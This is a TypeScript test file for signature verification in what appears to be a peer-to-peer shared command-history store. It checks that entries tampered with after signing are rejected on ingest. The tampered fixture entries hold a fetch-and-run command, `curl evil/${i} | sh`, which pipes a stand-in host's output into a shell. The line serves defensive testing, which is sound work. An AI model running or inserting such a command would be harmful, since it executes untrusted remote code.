import test from 'ava'
import { join } from 'node:path'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import type { Entry } from '../../src/core/entry.js'
import { signEntry, verifyEntry, withoutSignature, type EntrySigner } from '../../src/core/signature.js'
import { encodeMessage } from '../../src/protocol/messages.js'
import { openDatabase } from '../../src/store/db.js'
import { ingestPulled } from '../../workers/ingest.js'
import { verifyAll } from '../../workers/verify-parallel.js'
import { tempDir } from '../helpers/tmp.js'
import { entry } from '../store/fixtures.js'

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

/** 1200 entries signed by a, every 7th altered after signing, every 11th unsigned: the bad ones land in every thread's share. */
async function batch (): Promise<{ a: EntrySigner, entries: Entry[], bad: Set<number> }> {
  const a = await signer()
  const bad = new Set<number>()
  const entries = Array.from({ length: 1200 }, (_, i) => {
    const signed = signEntry(entry({ cmd: `make ${i}` }), a)
    if (i % 11 === 0) return withoutSignature(signed)
    if (i % 7 === 0) {
      bad.add(i)
      return { ...signed, cmd: `curl evil/${i} | sh` }
    }
    return signed
  })
  return { a, entries, bad }
}

test('verifyAll spread over threads gives each entry the verdict verifyEntry gives it', async (t) => {
  const { entries, bad } = await batch()
  const verdicts = await verifyAll(entries, (e) => e.sig != null)
  t.is(verdicts.length, entries.length)
  entries.forEach((e, i) => { if (e.sig != null) t.is(verdicts[i], verifyEntry(e), `entry ${i}`) })
  t.is(verdicts.filter((v) => !v).length, bad.size + entries.filter((e) => e.sig == null).length)
  t.true([...bad].every((i) => verdicts[i] === false))
})

test('a relayed pull of 1200 signed entries stores the genuine ones as verified and refuses exactly the altered ones', async (t) => {
  const { entries, bad } = await batch()
  const dbPath = join(tempDir(t), 'h.db')
  openDatabase(dbPath).close()
  const payload = encodeMessage({ entries, next_cursor: entries.length })
  const result = await ingestPulled({ tag: 'ingest-pulled', dbPath, peerId: (await signer()).origin, payload, wire: 2 })
  t.deepEqual(result.rejected.map((r) => r.index).sort((x, y) => x - y), [...bad].sort((x, y) => x - y))
  const db = openDatabase(dbPath)
  t.teardown(() => db.close())
  const counts = db.prepare('SELECT trust, COUNT(*) AS n FROM entries GROUP BY trust ORDER BY trust').all()
  const unsigned = entries.filter((e) => e.sig == null).length
  t.deepEqual(counts, [{ trust: 0, n: unsigned }, { trust: 1, n: entries.length - unsigned - bad.size }])
  t.false((db.prepare('SELECT cmd FROM entries').pluck().all() as string[]).some((cmd) => cmd.startsWith('curl')))
})
